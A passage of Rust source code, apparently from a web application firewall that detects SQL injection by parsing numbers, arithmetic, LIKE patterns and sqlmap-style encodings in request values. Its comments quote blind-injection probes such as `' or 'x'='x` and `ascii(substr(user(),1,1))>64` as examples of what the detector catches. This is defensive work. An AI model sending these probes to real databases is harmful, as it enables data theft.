            if *first_call.get_or_insert(call) != call {
                return false;
            }
            past_arithmetic(text, end + 1)
        } else if name == b"null" {
            start + name.len()
        } else {
            let n = number_len(&text[start..close]);
            let member = &text[start..start + n];
            if n == 0
                || member == left
                || sql_number(member).is_some_and(|v| sql_number(left) == Some(v))
            {
                return false;
            }
            start + n
        };
        at = gap(end, b" )");
        match text.get(at) {
            _ if at == close => return first_call.is_some(),
            Some(b',') => at += 1,
            _ => return false,
        }
    }
}

/// Where arithmetic with numbers on an operand that ends at `end` of `text` ends (`+0`, ` * 1`, `-1+2`, MySQL's
/// ` div 1` and ` mod 100`), or `end` when none follows: every dialect reads `length(password)+0` as the number the
/// call returns. Read within [`OPERAND_WINDOW`], as every look-ahead here, and by [`arithmetic_operator`], as a
/// constant expression is: a comment is no operator. A term in parentheses is a number too (` div (1)`, `+(0)`,
/// ` mod ((256))`), as [`const_expression`] reads it, and the operand may close parentheses before the operator
/// (`(length(password))+0`).
fn past_arithmetic(text: &[u8], mut end: usize) -> usize {
    let limit = text.len().min(end + OPERAND_WINDOW);
    loop {
        let closed = limit - skip(&text[end..limit], b")").len();
        let Some((_, after)) = arithmetic_operator(&text[..limit], closed) else {
            return end;
        };
        let number = limit - skip(&text[after..limit], b" ").len();
        let n = const_expression(&text[number..limit]).map_or(0, |(len, _, _)| len);
        if n == 0
            || text
                .get(number + n)
                .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        {
            return end;
        }
        end = number + n;
    }
}

/// Where a call starts after arithmetic on a number that ends at `end` of `text` (`5+length(password)`, `0 + ascii(…)`,
/// MySQL's `5 div length(…)` and `1 mod (length(…))`), when it is one of [`BLIND_FUNCTIONS`] or wraps one: every
/// dialect reads the sum as the number the call returns, shifted, so the call is the probe's operand, as
/// [`past_arithmetic`] reads arithmetic after it. `None` otherwise ("x=1 and 2*f(y)>3" is algebra). The number is
/// the caller's reading; only an operator and a name are read here, within [`OPERAND_WINDOW`].
fn call_after_arithmetic(text: &[u8], end: usize, calls: &Calls<'_>) -> Option<usize> {
    let limit = text.len().min(end + OPERAND_WINDOW);
    // Past the `)` of a number in parentheses (`1 and (5)+length(…)`).
    let end = limit - skip(&text[end..limit], b")").len();
    let (_, after) = arithmetic_operator(&text[..limit], end)?;
    // A sign before the call is arithmetic too (`5+-length(…)`, `5 - -length(…)`, `5+~length(…)`).
    let name = limit - skip(&text[after..limit], b" (+-~").len();
    let (called, _) = word(&text[name..limit]);
    let paren = limit - skip(&text[name + called.len()..limit], b" ").len();
    (called
        .first()
        .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
        && text.get(paren) == Some(&b'(')
        && (BLIND_FUNCTIONS.contains(&called) || calls.wraps_blind(text, paren)))
    .then_some(name)
}

/// A name between one name twice (`x between y and y`, `x not between y and y`) that `rest` starts with: `x=y`
/// (`x<>y`) in the range's spelling, as sqlmap's `between` tamper writes a comparison. How long it is. Two other
/// names are English's range ("2 or more between jan and feb", "3 or so between march and april").
fn names_between(rest: &[u8]) -> Option<usize> {
    fn name(text: &[u8]) -> Option<(&[u8], &[u8])> {
        let (name, after) = word(text);
        (name
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_')
            && name != b"and")
            .then_some((name, after))
    }
    let range = skip(rest.strip_prefix(b"not ").unwrap_or(rest), b" ").strip_prefix(b"between ")?;
    let (low, after) = name(skip(range, b" "))?;
    let (high, after) = name(skip(skip(after, b" ").strip_prefix(b"and ")?, b" "))?;
    (low == high).then(|| rest.len() - after.len())
}

/// Whether `text` from `end` ends the statement ([`ends_statement`]: the value's end, a comment or `;`), or first
/// a chain of `and`/`or` and literals that keeps a predicate's truth (`… and 1`, `… or 0`): "chapters 1 and 2 and
/// 3" has no predicate before it.
fn chain_ends(text: &[u8], end: usize) -> bool {
    let mut rest = skip(&text[end..], b" )");
    // Read to its end, however long: a chain holds no predicate, so the chains of a text's predicates do not
    // overlap and each is read once.
    loop {
        if ends_statement(rest) {
            return true;
        }
        let Some((keeps, value, next)) = chain_link(rest) else {
            return false;
        };
        // `and 1=1`: the link's literal compared, as a whole a link that keeps the truth of the comparison's.
        let (value, next) = compared(value, next).unwrap_or((value, next));
        if !keeps.keeps(value) {
            return false;
        }
        count_reads!(NUMBER_READS, rest.len() - next.len());
        rest = next;
    }
}

/// A link's literal `left` compared to a constant by what `rest` (after the literal, blanks and `)` skipped) starts
/// with (`and 1=1`, `and 1 = 1.0`, `&& 0x1=1`, `or 1<2`, `and(2=2)`): the comparison's truth (1 or 0) and `rest`
/// past it (blanks and `)` skipped) — sqlmap's suffix after a whole-value probe
/// (`if(ascii(substr(user(),1,1))>64,1,0) and 1=1`) and its hand-edited spellings. None when `rest` starts with none.
fn compared(left: f64, rest: &[u8]) -> Option<(f64, &[u8])> {
    // The symbols alone: a word (`and 1 like 1`) is left to the chain's own reading.
    let operator = comparison_at(rest, 0).filter(|op| !op[0].is_ascii_alphabetic())?;
    let right_at = skip(&rest[operator.len()..], b" ");
    let (len, right, _) = const_expression(right_at)?;
    if right_at
        .get(len)
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        return None;
    }
    let holds = left
        .partial_cmp(&right)
        .is_some_and(|order| ordered_holds(operator, order));
    Some((f64::from(u8::from(holds)), skip(&right_at[len..], b" )")))
}

/// Whether `text` from `at`, after the bare operand `left` of a numeric injection's `and`/`or`, is a predicate that
/// ends the statement ([`ends_statement`]: the value's end, a comment or `;`) and reads as the blind probe's: a
/// number's `[not] between A and B` that holds, a number's or `null`'s `is [not] null|true|false|unknown` that holds
/// (MySQL's: `1 is not null`, `1 is true`, `null is null`), or, for `left` = `not` (or MySQL's `!`), the number 0,
/// `false`, or two glued literals compared (`not 1=2`, `not 'a'='b'`), maybe in parentheses (`not(0)`).
fn numeric_predicate(text: &[u8], at: usize, left: &[u8]) -> bool {
    let number = |s: &[u8]| {
        (number_len(s) == s.len())
            .then(|| sql_number(s))
            .flatten()
            .or_else(|| compound_value(s))
    };
    let ends = |end: usize| chain_ends(text, end);
    let rest = &text[at..];
    if left == b"not" {
        let at = text.len() - skip(rest, b" (").len();
        // A signed number too (`not -0`), which [`operand`] does not read.
        let Some((operand_left, end, left_quoted)) = signed_operand(text, at, true) else {
            return false;
        };
        if !left_quoted && (number(operand_left) == Some(0.0) || operand_left == b"false") {
            return ends(end);
        }
        let Some(comparison) = comparison_at(text, end) else {
            return false;
        };
        return (left_quoted || number(operand_left).is_some())
            && operand(text, end + comparison.len(), true).is_some_and(
                |(right, right_end, quoted)| (quoted || number(right).is_some()) && ends(right_end),
            );
    }
    // A number's truth, or `None` for `null`'s.
    let value = if left == b"null" {
        None
    } else {
        let Some(value) = number(left) else {
            return false;
        };
        Some(value)
    };
    // `not between`, the range's other spelling, holds outside it (`1 not between 2 and 3`).
    let (outside, range) = match rest.strip_prefix(b"not ") {
        Some(after) => (true, skip(after, b" ")),
        None => (false, rest),
    };
    if let Some(range) = range.strip_prefix(b"between ") {
        let Some(value) = value else {
            return false;
        };
        // PostgreSQL's `symmetric` holds between the bounds in either order; `asymmetric` is the default spelled.
        let (symmetric, range) = match range.strip_prefix(b"symmetric ") {
            Some(after) => (true, skip(after, b" ")),
            None => (
                false,
                range
                    .strip_prefix(b"asymmetric ")
                    .map_or(range, |after| skip(after, b" ")),
            ),
        };
        // Each bound maybe in parentheses, as SQL reads `between (0) and (2)`.
        let range = skip(range, b" (");
        let low_len = number_len(range);
        let Some(high) = skip(&range[low_len..], b" )")
            .strip_prefix(b"and")
            .filter(|high| matches!(high.first(), Some(b' ' | b'(')))
        else {
            return false;
        };
        let high = skip(high, b" (");
        let high_len = number_len(high);
        let tail = &high[high_len..];
        return match (number(&range[..low_len]), number(&high[..high_len])) {
            (Some(low), Some(high)) => {
                let (low, high) = if symmetric && high < low {
                    (high, low)
                } else {
                    (low, high)
                };
                (low <= value && value <= high) != outside && ends(text.len() - tail.len())
            }
            _ => false,
        };
    }
    // `is [not] null|true|false|unknown`: a number is never null, and true unless 0; `null` is only null (unknown).
    let Some(test) = rest.strip_prefix(b"is ").map(|r| skip(r, b" ")) else {
        return false;
    };
    let (negated, test) = match test.strip_prefix(b"not ") {
        Some(r) => (true, skip(r, b" ")),
        None => (false, test),
    };
    let Some((holds, tail)) = [
        (&b"null"[..], value.is_none()),
        (b"unknown", value.is_none()),
        (b"true", value.is_some_and(|v| v != 0.0)),
        (b"false", value == Some(0.0)),
    ]
    .into_iter()
    .find_map(|(word, holds)| test.strip_prefix(word).map(|tail| (holds, tail))) else {
        return false;
    };
    holds != negated
        && !tail
            .first()
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        && ends(text.len() - tail.len())
}

/// How long the SQL number `text` starts with is: an optional `-` or `+` (blanks after it too), then MySQL's and PostgreSQL's hexadecimal
/// `0x…`, or digits with a fraction (`1.0`, `.5`) and an exponent (`2e0`, `1e-1`) — 0 when none starts it.
fn number_len(text: &[u8]) -> usize {
    let len = signed_number_len(text);
    count_reads!(NUMBER_READS, len + 1);
    len
}

/// [`number_len`]'s reading.
fn signed_number_len(text: &[u8]) -> usize {
    let digits = |at: usize| {
        text[at.min(text.len())..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count()
    };
    // The sign and the blanks after it: SQL's unary minus is an operator, and `- 1` is `-1`.
    let sign = match text.split_first() {
        Some((b'-' | b'+', rest)) => 1 + rest.len() - skip(rest, b" ").len(),
        _ => 0,
    };
    // MySQL's bit-value literals: `b'101'` and `0b101`.
    let bits = |at: usize| {
        text[at.min(text.len())..]
            .iter()
            .take_while(|b| matches!(b, b'0' | b'1'))
            .count()
    };
    if text[sign..].starts_with(b"b'") {
        let n = bits(sign + 2);
        if n > 0 && text.get(sign + 2 + n) == Some(&b'\'') {
            return sign + 3 + n;
        }
    }
    // MySQL's and SQLite's hexadecimal string literal, `x'01'` (`X'01'`, lower-cased): its bytes, read as a number
    // where one is compared (`id=1 and x'01'=1`), as `0x01` is. Both servers refuse an odd number of digits.
    if text[sign..].starts_with(b"x'") {
        let n = text[sign + 2..]
            .iter()
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        if n > 0 && n % 2 == 0 && text.get(sign + 2 + n) == Some(&b'\'') {
            return sign + 3 + n;
        }
    }
    if text[sign..].starts_with(b"0b") {
        let n = bits(sign + 2);
        if n > 0
            && !text
                .get(sign + 2 + n)
                .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        {
            return sign + 2 + n;
        }
    }
    if text[sign..].starts_with(b"0x") {
        let hex = text[sign + 2..]
            .iter()
            .take_while(|b| b.is_ascii_hexdigit())
            .count();
        if hex > 0 {
            return sign + 2 + hex;
        }
    }
    let whole = digits(sign);
    let mut end = sign + whole;
    let fraction = if text.get(end) == Some(&b'.') {
        digits(end + 1)
    } else {
        0
    };
    if whole + fraction == 0 {
        return 0;
    }
    if text.get(end) == Some(&b'.') {
        end += 1 + fraction;
    }
    if text.get(end) == Some(&b'e') {
        let signed = usize::from(matches!(text.get(end + 1), Some(b'-' | b'+')));
        let exponent = digits(end + 1 + signed);
        if exponent > 0 {
            end += 1 + signed + exponent;
        }
    }
    end
}

/// A constant arithmetic expression SQL folds where a number stands, read from `text`'s start: terms joined by `+`,
/// `-`, `*`, `/`, `%` (blanks around them) or MySQL's `div` and `mod` (blanks around them: `1 div 1`), each term signs (`-`, `+`, MySQL's `~`, any number of them, blanks
/// after each: `--1`, `- -1`, `~0`) before a number [`number_len`] reads or a parenthesised expression (`-(-1)`, `(2*3)`). Its length,
/// value and whether it is more than a signed number (an operator, a parenthesis or a second sign); `None` when no
/// number starts it, or past what it reads cheaply (16 terms, 8 parentheses deep, 128 bytes) or exactly (a division by
/// 0, which SQL reads as `null`). `-- ` is MySQL's comment and `/*` a comment's start: neither is an operator.
fn const_expression(text: &[u8]) -> Option<(usize, f64, bool)> {
    struct Reader<'a> {
        text: &'a [u8],
        at: usize,
        terms: usize,
        compound: bool,
    }
    impl Reader<'_> {
        fn blanks(&mut self) {
            while self.text.get(self.at) == Some(&b' ') {
                self.at += 1;
            }
        }
        fn term(&mut self, depth: usize) -> Option<f64> {
            self.terms += 1;
            if self.terms > 16 || depth > 8 || self.at > 128 {
                return None;
            }
            let mut negative = false;
            let mut signs = 0;
            // MySQL's bitwise `~`, a complement of the 64-bit integer after it (`~0` is 2^64-1): `~` applied an
            // even number of times is the number itself.
            let mut complements = 0;
            while let Some(&sign @ (b'-' | b'+' | b'~')) = self.text.get(self.at) {
                if sign == b'~' {
                    complements += 1;
                    signs += 1;
                    self.at += 1;
                    self.blanks();
                    continue;
                }
                // `-- ` (or `--` at the end) starts MySQL's comment.
                if sign == b'-'
                    && self.text.get(self.at + 1) == Some(&b'-')
                    && matches!(self.text.get(self.at + 2), None | Some(b' '))
                {
                    return None;
                }
                negative ^= sign == b'-';
                signs += 1;
                self.at += 1;
                self.blanks();
            }
            if signs > 1 || complements > 0 {
                self.compound = true;
            }
            let value = if self.text.get(self.at) == Some(&b'(') {
                self.compound = true;
                self.at += 1;
                self.blanks();
                let value = self.expression(depth + 1)?;
                self.blanks();
                if self.text.get(self.at) != Some(&b')') {
                    return None;
                }
                self.at += 1;
                value
            } else {
                if !self
                    .text
                    .get(self.at)
                    .is_some_and(|b| b.is_ascii_digit() || *b == b'.')
                {
                    return None;
                }
                let len = number_len(&self.text[self.at..]);
                if len == 0 {
                    return None;
                }
                let value = sql_number(&self.text[self.at..self.at + len])?;
                self.at += len;
                value
            };
            let value = if complements % 2 == 1 {
                // SQL's integer: the value rounded, its two's complement's bits flipped.
                (!(value.round() as i64 as u64)) as f64
            } else {
                value
            };
            Some(if negative { -value } else { value })
        }
        fn expression(&mut self, depth: usize) -> Option<f64> {
            let mut sum = 0.0;
            let mut product = self.term(depth)?;
            while let Some((op, after)) = arithmetic_operator(self.text, self.at) {
                let saved = (self.at, self.terms, self.compound);
                self.at = after;
                self.blanks();
                let Some(value) = self.term(depth) else {
                    // No term after it (`2-` in prose, or past the budget): the expression ends before it.
                    (self.at, self.terms, self.compound) = saved;
                    break;
                };
                self.compound = true;
                match op {
                    b'*' => product *= value,
                    b'/' | b'%' | b'd' if value == 0.0 => return None,
                    b'd' => product = (product / value).trunc(),
                    b'/' => product /= value,
                    b'%' => product %= value,
                    b'+' => {
                        sum += product;
                        product = value;
                    }
                    _ => {
                        sum += product;
                        product = -value;
                    }
                }
            }
            Some(sum + product)
        }
    }
    let mut reader = Reader {
        text,
        at: 0,
        terms: 0,
        compound: false,
    };
    // Its numbers are counted as [`number_len`] reads them.
    let value = reader.expression(0)?;
    value
        .is_finite()
        .then_some((reader.at, value, reader.compound))
}

/// The arithmetic operator after the blanks at `at` of `text`, where an operand ends, and where the term after it
/// starts: `+`, `-`, `*`, `/`, `%` (`d` for MySQL's `div`, `%` for its `mod`), or `None`. `div` and `mod` (integer
/// division and remainder) are words with a blank or a parenthesis on each side (`1 div 1`, `1 div(1)`, `(1)mod(1)`):
/// glued to a digit they are part of a name (`1div1`). `-- ` (or `--` at the end) is MySQL's comment, `/*` a
/// comment's start and `->` an operator of JSON: none is arithmetic.
fn arithmetic_operator(text: &[u8], end: usize) -> Option<(u8, usize)> {
    let at = text.len() - skip(&text[end..], b" ").len();
    if at > end || end.checked_sub(1).is_some_and(|i| text[i] == b')') {
        for (word, op) in [(&b"div"[..], b'd'), (b"mod", b'%')] {
            let after = at + word.len();
            if text[at..].starts_with(word) && matches!(text.get(after), Some(b' ' | b'(')) {
                return Some((op, after));
            }
        }
    }
    let op = *text.get(at)?;
    let next = text.get(at + 1).copied();
    let comment = match op {
        b'-' => next == Some(b'-') && matches!(text.get(at + 2), None | Some(b' ')),
        b'/' => next == Some(b'*'),
        b'+' | b'*' | b'%' => false,
        _ => return None,
    };
    (!comment && next != Some(b'>')).then_some((op, at + 1))
}

/// The value of `text` when all of it is a compound [`const_expression`] (`-(-1)`, `1-1`, `2*3`).
fn compound_value(text: &[u8]) -> Option<f64> {
    const_expression(text)
        .filter(|&(len, _, compound)| compound && len == text.len())
        .map(|(_, value, _)| value)
}

/// The value of a number [`number_len`] read (all of `text`), as SQL compares it; `None` past what it reads exactly
/// enough to compare (a hexadecimal of more than 13 digits, a text of more than 64 bytes).
fn sql_number(text: &[u8]) -> Option<f64> {
    if text.len() > 64 {
        return None;
    }
    let (negative, digits) = match text.split_first() {
        Some((b'-', rest)) => (true, skip(rest, b" ")),
        Some((b'+', rest)) => (false, skip(rest, b" ")),
        _ => (false, text),
    };
    let bits = digits.strip_prefix(b"0b").or_else(|| {
        digits
            .strip_prefix(b"b'")
            .and_then(|b| b.strip_suffix(b"'"))
    });
    if let Some(bits) = bits {
        let value = (bits.len() <= 53)
            .then(|| bits.iter().fold(0u64, |n, &d| n * 2 + u64::from(d - b'0')))?
            as f64;
        return Some(if negative { -value } else { value });
    }
    let hex_string = digits
        .strip_prefix(b"x'")
        .and_then(|h| h.strip_suffix(b"'"));
    let value = match digits.strip_prefix(b"0x").or(hex_string) {
        Some(hex) if hex.len() <= 13 => hex.iter().try_fold(0u64, |n, &d| {
            Some(n * 16 + u64::from(char::from(d).to_digit(16)?))
        })? as f64,
        Some(_) => return None,
        None => std::str::from_utf8(digits).ok()?.parse::<f64>().ok()?,
    };
    Some(if negative { -value } else { value })
}

/// Whether `left comparison right` holds: numbers compared as numbers, `like` by its pattern ([`like_matches`]),
/// anything else as text.
fn holds(left: &[u8], comparison: &[u8], right: &[u8]) -> bool {
    if comparison == b"like" {
        return like_matches(left, right);
    }
    // An integer, maybe signed (`-1<0`, `-2<-1`), as SQL compares it.
    let number = |s: &[u8]| {
        let (negative, digits) = match s.split_first() {
            Some((b'-', digits)) => (true, skip(digits, b" ")),
            Some((b'+', digits)) => (false, skip(digits, b" ")),
            _ => (false, s),
        };
        (!digits.is_empty() && digits.len() <= 18 && digits.iter().all(u8::is_ascii_digit)).then(
            || {
                let n = digits
                    .iter()
                    .fold(0i64, |n, d| n * 10 + i64::from(d - b'0'));
                if negative {
                    -n
                } else {
                    n
                }
            },
        )
    };
    // A constant expression on either side (`2*3=6`, `1-1=0`) is compared by its value.
    // So is any other spelling of a number (`0x1=1`, `1e0=1`).
    let folded = |s: &[u8]| {
        compound_value(s).or_else(|| {
            (!s.is_empty() && number_len(s) == s.len())
                .then(|| sql_number(s))
                .flatten()
        })
    };
    let order = match (number(left), number(right)) {
        (Some(l), Some(r)) => l.cmp(&r),
        _ => match (folded(left), folded(right)) {
            (Some(l), Some(r)) => match l.partial_cmp(&r) {
                Some(order) => order,
                None => return false,
            },
            _ => left.cmp(right),
        },
    };
    ordered_holds(comparison, order)
}

/// Whether a comparison [`comparison_at`] reads holds between operands in `order` (an equality's kin — `=`, `==`,
/// `<=>`, `like` and the rest — holds when they are equal).
fn ordered_holds(comparison: &[u8], order: std::cmp::Ordering) -> bool {
    match comparison {
        b"<>" | b"!=" => order.is_ne(),
        b"<=" => order.is_le(),
        b">=" => order.is_ge(),
        b"<" => order.is_lt(),
        b">" => order.is_gt(),
        _ => order.is_eq(),
    }
}

/// Whether `text` matches the LIKE `pattern`: `%` any run, `_` any one byte, every other byte itself (`text` is
/// lower-case, as MySQL's and SQLite's default comparison is case-blind): `'x' like '%'` holds for every row. A
/// pattern past 32 bytes or a text past 64 is compared as it is, so the backtracking stays bounded.
fn like_matches(text: &[u8], pattern: &[u8]) -> bool {
    if pattern.len() > 32 || text.len() > 64 {
        return text == pattern;
    }
    // Where the last `%` stood and the text position it has taken up to, for backtracking.
    let (mut t, mut p, mut run) = (0, 0, None);
    while t < text.len() {
        match pattern.get(p) {
            Some(b'%') => {
                run = Some((p, t));
                p += 1;
            }
            Some(&c) if c == b'_' || c == text[t] => (t, p) = (t + 1, p + 1),
            _ => match run {
                Some((at, taken)) => {
                    run = Some((at, taken + 1));
                    (t, p) = (taken + 1, at + 1);
                }
                None => return false,
            },
        }
    }
    pattern[p..].iter().all(|&c| c == b'%')
}

/// The name at `at` quoted by `` ` `` or `"` and glued to a `(` after its closing quote, and where the quoted name
/// ends: MySQL resolves a quoted identifier before `(` against its native functions, PostgreSQL and SQLite read a
/// quoted name as the name (`` `ascii`(substr(user(),1,1)) ``). A blank before the `(` is prose's ("the `ascii`
/// (in docs) table").
fn quoted_call_name(text: &[u8], at: usize) -> Option<(&[u8], usize)> {
    quoted_name(text, at).filter(|&(_, end)| text.get(end) == Some(&b'('))
}

/// The name at `at` quoted by `` ` `` or `"` (letters, digits and `_`), and where its closing quote ends.
fn quoted_name(text: &[u8], at: usize) -> Option<(&[u8], usize)> {
    let quote = *text.get(at).filter(|b| matches!(b, b'`' | b'"'))?;
    let name = &text[at + 1..];
    let len = name
        .iter()
        .take(64)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    (len > 0 && name.get(len) == Some(&quote)).then(|| (&name[..len], at + len + 2))
}

/// The operand at `at`: a quoted string's content, or a bare literal (`1`, `x`, `a.b`); where it ends; and whether it
/// was quoted. A string must be closed unless it is the last operand, whose closing quote the query around the
/// injection supplies (`' or 'x'='x`): then its content is the literal characters that follow.
fn operand(text: &[u8], at: usize, closed: bool) -> Option<(&[u8], usize, bool)> {
    // An open string's content may hold a LIKE pattern's `%` too (`' or 'x' like '%`).
    let literal = |from: usize, percent: bool| {
        let len = text[from..]
            .iter()
            .take_while(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.') || (percent && **b == b'%')
            })
            .count();
        (&text[from..from + len], from + len)
    };
    match *text.get(at)? {
        quote @ (b'\'' | b'"') => match memchr::memchr(quote, &text[at + 1..]) {
            Some(len) => Some((&text[at + 1..at + 1 + len], at + len + 2, true)),
            // All the rest is the string's, comment markers too (`' or 'a--'='a--` is `'a--'='a--'`), but the
            // blanks at its end, which MySQL's and SQL Server's comparisons ignore.
            None if !closed => Some((skip_back(&text[at + 1..], b" "), text.len(), true)),
            None => None,
        },
        // PostgreSQL's dollar-quoted string, `$$a$$`: a quote no `'` or `"` spells (within a window, as every
        // look-ahead here, so a text of `' or $$` repeated is not read to its end from each).
        b'$' if text.get(at + 1) == Some(&b'$') => {
            let body = &text[at + 2..];
            let window = &body[..body.len().min(1024)];
            memchr::memmem::find(window, b"$$").map(|len| (&body[..len], at + 2 + len + 2, true))
        }
        // MySQL's bit-value literal, `b'1'`, and the hexadecimal string literal, `x'01'`: a number, not the name `b`
        // or `x` before a string.
        b'b' | b'x' if text.get(at + 1) == Some(&b'\'') && number_len(&text[at..]) > 3 => {
            let len = number_len(&text[at..]);
            Some((&text[at..at + len], at + len, false))
        }
        _ => {
            let (value, end) = literal(at, false);
            // A number with a fraction or an exponent ends where MySQL's reading of it does, and a word glued to it
            // is a word of its own: `5=5.0limit 1` is `5=5.0 limit 1` (as `1.0union select` is). Digits alone glued
            // to a letter are a name (`5limit`), and hexadecimal (`0x1e`) is read whole.
            let n = number_len(value);
            let glued = value.first().is_some_and(u8::is_ascii_digit)
                && !value.starts_with(b"0x")
                && value[..n].iter().any(|b| matches!(b, b'.' | b'e'))
                && value.get(n).is_some_and(u8::is_ascii_alphabetic);
            let (value, end) = if glued {
                (&value[..n], end - (value.len() - n))
            } else {
                (value, end)
            };
            (!value.is_empty()).then_some((value, end, false))
        }
    }
}

/// [`operand`], or a signed number SQL's unary minus or plus spells (`-1`, `+0x1`), which it does not read: a comparison's
/// operand (`id=1 and 1=-1`, `ascii(…)>-1`), or a compound [`const_expression`] (`-(-1)`, `1-1`, `2*3`). Not a sign
/// before a word (`-1st`), which is no number.
fn signed_operand(text: &[u8], at: usize, closed: bool) -> Option<(&[u8], usize, bool)> {
    // A constant expression SQL folds (`-(-1)`, `--1`, `1-1`, `2*3`): its value is the operand's.
    if let Some((len, _, true)) = const_expression(&text[at..]) {
        if !text
            .get(at + len)
            .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        {
            return Some((&text[at..at + len], at + len, false));
        }
    }
    signed_number_operand(text, at, closed)
}

/// [`signed_operand`] without constant expressions: [`operand`] or a signed number.
fn signed_number_operand(text: &[u8], at: usize, closed: bool) -> Option<(&[u8], usize, bool)> {
    if matches!(text.get(at), Some(b'-' | b'+')) {
        let len = number_len(&text[at..]);
        if len > 1
            && !text
                .get(at + len)
                .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        {
            return Some((&text[at..at + len], at + len, false));
        }
    }
    operand(text, at, closed)
}

/// A percent-decoded `raw` scanned, and again with its JSON escapes decoded when it holds one (a `\` and one of
/// `"\/bfnrtu`: `java\tscript:`, `text\/html`, `\/etc\/passwd`, `\u003c`): JSON carried in a query or form value (GraphQL's `variables={"q":"\u003cscript…"}`, Slack's `payload=`) is decoded by
/// the origin, which no reading of JSON bodies sees; and again without the `%` signs decoding left, which escape
/// nothing and which classic ASP drops; and, by the SQL rules, without the numbers MySQL's lexer drops
/// ([`without_dropped_numbers`]). Input still encoded after [`DECODE_ROUNDS`] is a hit itself. A value read with
/// `+` as a space is read again with the `+` decoding left (from `%2B`) as a space too: an origin that decodes it
/// once more — PHP's `urldecode`, Java's `URLDecoder.decode`, Python's `unquote_plus`, the readers the rounds are
/// made for — reads `1%2Bunion%2Bselect` as `1 union select`.
fn screen(config: &WafConfig, raw: &str, plus_is_space: bool, part: &'static str) -> Option<Hit> {
    if config.rules.is_empty() {
        return None;
    }
    match decode(raw, plus_is_space) {
        Some(text) => screen_decoded(config, &text, part).or_else(|| {
            (plus_is_space && text.contains('+'))
                .then(|| screen_decoded(config, &text.replace('+', " "), part))
                .flatten()
        }),
        None => Some(Hit {
            rule: "encoding-depth",
            part,
        }),
    }
}

/// The readings of [`screen`] of a percent-decoded `text`.
fn screen_decoded(config: &WafConfig, text: &str, part: &'static str) -> Option<Hit> {
    scan(config, text, part)
        .or_else(|| {
            has_json_escape(text.as_bytes())
                .then(|| scan(config, &json_unescaped(text), part))
                .flatten()
        })
        // A `%` that escapes nothing, as classic ASP reads it: dropped (`%S%E%L%E%C%T` is `SELECT`, sqlmap's
        // `percentage`). Once decoded, every `%` left escapes nothing.
        .or_else(|| {
            text.contains('%')
                .then(|| scan(config, &without_percent_signs(text), part))
                .flatten()
        })
        .or_else(|| {
            let read = config
                .rules
                .contains(&RuleSet::Sqli)
                .then(|| without_dropped_numbers(text))
                .flatten()?;
            // Made only for a text that holds such a number: every other value was costing a copy of the
            // configuration.
            let sql = WafConfig {
                rules: vec![RuleSet::Sqli],
                ..config.clone()
            };
            scan(&sql, &read, part)
        })
}

/// `text` without the `%` signs classic ASP drops, as sqlmap's `percentage` writes one before each character
/// (`%1 %O%R %1%=%1`), but those a number no `%` stands before ends, where the text writes no letter after a `%`:
/// a percentage ("up 1% or 1%=1%" is prose, not `1 or 1=1`). A keyword written so (`1 %O%R 1%=1`) drops them all.
fn without_percent_signs(text: &str) -> String {
    let bytes = text.as_bytes();
    let keyword = memchr::memchr_iter(b'%', bytes)
        .any(|at| bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic));
    let mut out = String::with_capacity(text.len());
    // Whether the digits the text has last run through had no `%` before them.
    let mut bare = false;
    let mut before = None;
    for c in text.chars() {
        let digit = c.is_ascii_digit();
        if digit && !before.is_some_and(|b: char| b.is_ascii_digit()) {
            bare = before != Some('%');
        }
        if c != '%' || (!keyword && bare && before.is_some_and(|b: char| b.is_ascii_digit())) {
            out.push(c);
        }
        before = Some(c);
    }
    out
}

/// Whether `text` holds a JSON escape: a `\` followed by one of `"\/bfnrtu`.
fn has_json_escape(text: &[u8]) -> bool {
    memchr::memchr_iter(b'\\', text)
        .any(|at| text.get(at + 1).is_some_and(|b| b"\"\\/bfnrtu".contains(b)))
}

/// `text` without the numbers MySQL's lexer drops, when it holds one: digits and `.e` (or `.E`) starting a token
/// and before one of `(),.*^/|&` (glued or after blanks: `sleep 1.e (5)` is `sleep(5)` too), with the blanks
/// before them — sqlmap's `scientific` (GoSecure's scientific
/// notation bug) writes ` 1.e` before each of those and between a call's name and its `(`, so `ifnull 1.e(ascii
/// 1.e(substr 1.e(user 1.e( 1.e) 1.e,1 1.e,1 1.e) 1.e) 1.e,0 1.e)>64` is `ifnull(ascii(substr(user(),1,1)),0)>64`
/// to MySQL. One pass over the text; "version 1.e5", "see 1.e) below" and "section 1.e (optional)" lose nothing
/// that reads as code.
fn without_dropped_numbers(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let mut out: Option<Vec<u8>> = None;
    let mut copied = 0;
    for dot in memchr::memchr_iter(b'.', bytes) {
        let start = dot
            - bytes[..dot]
                .iter()
                .rev()
                .take_while(|b| b.is_ascii_digit())
                .count();
        let dropped = start < dot
            && start >= copied
            && (start == 0
                || !(bytes[start - 1].is_ascii_alphanumeric()
                    || b"_.".contains(&bytes[start - 1])))
            && matches!(bytes.get(dot + 1), Some(b'e' | b'E'))
            && bytes[dot + 2..]
                .iter()
                .find(|b| !b.is_ascii_whitespace())
                .is_some_and(|b| b"(),.*^/|&".contains(b));
        if dropped {
            let blanks = bytes[copied..start]
                .iter()
                .rev()
                .take_while(|b| b.is_ascii_whitespace())
                .count();
            let out = out.get_or_insert_with(|| Vec::with_capacity(bytes.len()));
            out.extend_from_slice(&bytes[copied..start - blanks]);
            copied = dot + 2;
        }
    }
    let mut out = out?;
    out.extend_from_slice(&bytes[copied..]);
    // Only ASCII bytes were removed, between whole characters.
    String::from_utf8(out).ok()
}

/// Checks a request line: the raw path (decoded here, and again with `+` as space, as origins that decode a path
/// with a form decoder — Java's `URLDecoder`, PHP's `urldecode`, Python's `unquote_plus` — read it) and raw query
/// (decoded with `+` as space).
